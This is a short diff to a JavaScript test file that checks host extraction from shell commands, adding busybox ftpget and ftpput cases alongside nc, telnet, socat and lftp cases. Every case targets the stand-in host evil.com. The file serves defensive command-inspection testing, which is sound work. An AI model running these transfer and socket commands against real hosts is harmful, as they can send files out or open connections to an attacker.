@@ -34,6 +34,9 @@ describe('hosts', () => {
     ['nc ::1 80', ['tcp://[::1]/']],
     ['telnet -l bob evil.com 23', ['tcp://evil.com/']],
     ['ftp evil.com', ['tcp://evil.com/']],
+    // busybox's ftpget and ftpput: the host is the first operand (hunt 9, F5).
+    ['ftpget evil.com f', ['tcp://evil.com/']], ['ftpput -P 2121 evil.com f', ['tcp://evil.com/']], ['ftpget -u me -p pw evil.com f r', ['tcp://evil.com/']],
+    ['busybox ftpget --port 21 evil.com f', ['tcp://evil.com/']],
     ['lftp sftp://u@evil.com', ['sftp://u@evil.com']],
     ['socat - TCP:evil.com:80', ['tcp://evil.com/']],
     ['socat - OPENSSL:evil.com:443,verify=0', ['tcp://evil.com/']],
